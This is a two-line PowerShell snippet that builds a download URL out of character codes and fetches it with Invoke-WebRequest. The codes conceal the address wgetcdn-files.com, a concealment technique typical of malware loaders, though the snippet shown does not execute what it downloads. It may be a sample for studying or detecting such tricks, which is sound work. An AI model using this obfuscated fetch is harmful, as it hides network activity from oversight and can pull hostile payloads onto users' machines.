$u = [char]104+[char]116+[char]116+[char]112+[char]115+[char]58+[char]47+[char]47+[char]119+[char]103+[char]101+[char]116+[char]99+[char]100+[char]110+[char]45+[char]102+[char]105+[char]108+[char]101+[char]115+[char]46+[char]99+[char]111+[char]109+[char]47+[char]99+[char]104+[char]97+[char]114+[char]115
iwr $u
